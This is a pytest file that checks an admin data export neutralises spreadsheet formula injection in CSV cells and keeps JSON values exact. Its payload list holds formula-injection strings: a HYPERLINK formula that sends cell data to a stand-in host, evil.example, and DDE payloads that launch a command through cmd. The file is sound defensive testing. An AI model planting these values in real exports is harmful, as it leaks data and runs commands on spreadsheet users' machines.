"""CSV cells that a spreadsheet would run as a formula are neutralised, column by column
(OWASP: a leading apostrophe, and the cell quoted); JSON keeps every value exact."""

import csv
import io
import json

import pytest

from admin_explorer.models import AnnotationTask, Tag

pytestmark = pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume:Warning")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = ["task_name", "project_title", "dataset_title", "dataset_tags", "annotator_name"]


def plant(world, column: str, payload: str) -> AnnotationTask:
    task = world.tasks[0]
    if column == "task_name":
        AnnotationTask.objects.filter(pk=task.pk).update(name=payload)
    elif column == "project_title":
        task.job.title = payload
        task.job.save()
    elif column == "dataset_title":
        task.dataset.title = payload
        task.dataset.save()
    elif column == "dataset_tags":
        task.dataset.tags.set([Tag.objects.create(name=payload[:64])])
    else:
        task.annotator.name = payload
        task.annotator.save()
    return task


def export(client, fmt: str, task) -> str:
    response = client.get(
        "/api/admin/data/export", {"format": fmt, "project": task.job_id, "sort_by": "task_name"}
    )
    assert response.status_code == 200
    return b"".join(response).decode()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", COLUMNS)
def test_csv_cell_is_neutralised(staff_client, world, column, payload):
    task = plant(world, column, payload)
    text = export(staff_client, "csv", task)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cell = next(row[column] for row in rows if row["task_id"] == str(task.pk))
    expected = payload[:64] if column == "dataset_tags" else payload
    assert cell == "'" + expected
    # Nothing else in the file starts a cell with a formula character.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("column", COLUMNS)
def test_json_keeps_the_exact_text(staff_client, world, column):
    payload = PAYLOADS[0]
    task = plant(world, column, payload)
    rows = json.loads(export(staff_client, "json", task))
    row = next(r for r in rows if r["task_id"] == task.pk)
    value = row[column][0] if column == "dataset_tags" else row[column]
    assert value == payload


def test_a_formula_after_a_tag_separator_stays_inside_one_quoted_cell(staff_client, world):
    """Spreadsheets set to split on ';' must not see a cell starting with '=' either."""
    task = world.tasks[0]
    task.dataset.tags.set([Tag.objects.create(name="#a"), Tag.objects.create(name="=1+1")])
    text = export(staff_client, "csv", task)
    line = next(line for line in text.splitlines() if line.startswith(f"{task.pk},"))
    assert ',"#a;=1+1",' in line
